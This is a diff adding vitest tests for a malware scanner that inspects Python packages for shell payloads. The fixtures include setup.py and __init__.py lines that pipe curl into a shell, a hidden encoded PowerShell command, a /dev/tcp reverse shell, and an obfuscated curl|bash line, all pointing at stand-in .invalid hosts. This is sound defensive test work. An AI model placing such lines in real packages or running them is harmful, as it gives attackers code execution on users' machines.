@@ -1,0 +1,74 @@
+import { expect, test } from 'vitest';
+import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
+
+test('a download that setup.py pipes into a shell is malware', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import os',
+      'from setuptools import setup',
+      "os.system('curl -s https://get.tools.invalid/i | sh')",
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([
+    { class: 'malware', score: 9, context: 'install', path: 'example-1.0.0/setup.py', line: 3 },
+  ]);
+});
+
+test('an encoded PowerShell command at import is malware', async () => {
+  const encoded = Buffer.from('Write-Output "nothing to see"', 'utf16le').toString('base64');
+  const file = wheel({
+    'pkg/__init__.py': python('import subprocess', `subprocess.Popen('powershell -w hidden -enc ${encoded}')`),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 2 },
+  ]);
+});
+
+test('compilers, version questions and a shell script of the build are silent', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import subprocess',
+      'from setuptools import setup',
+      "subprocess.check_call(['gcc', '-O2', '-c', 'native.c'])",
+      "subprocess.check_output('pkg-config --cflags libcurl', shell=True)",
+      "subprocess.check_call(['sh', 'configure.sh'])",
+      "setup(name='example')",
+    ),
+    'configure.sh': '#!/bin/sh\nset -e\ncc --version\n',
+  });
+
+  expect(await inspect('shell-payload', file)).toEqual([]);
+});
+
+test('a shell script of the archive that the command starts is read as part of it', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import subprocess',
+      'from setuptools import setup',
+      "subprocess.check_call(['sh', 'configure.sh'])",
+      "setup(name='example')",
+    ),
+    'configure.sh': '#!/bin/sh\nset -e\nbash -i >& /dev/tcp/agent.tools.invalid/4000 0>&1\n',
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([
+    { class: 'malware', score: 10, path: 'example-1.0.0/setup.py', line: 3 },
+  ]);
+});
+
+test('a command line from pieces, formats and a decoder is found', async () => {
+  const tail = Buffer.from(' | bash').toString('base64');
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import base64, os as o',
+      "tool = 'c' + chr(117) + 'rl'",
+      `tail = base64.b64decode('${tail}').decode()`,
+      "o.popen('{} -fsSL https://{}/i{}'.format(tool, 'get.tools.invalid', tail))",
+    ),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 4 }]);
+});
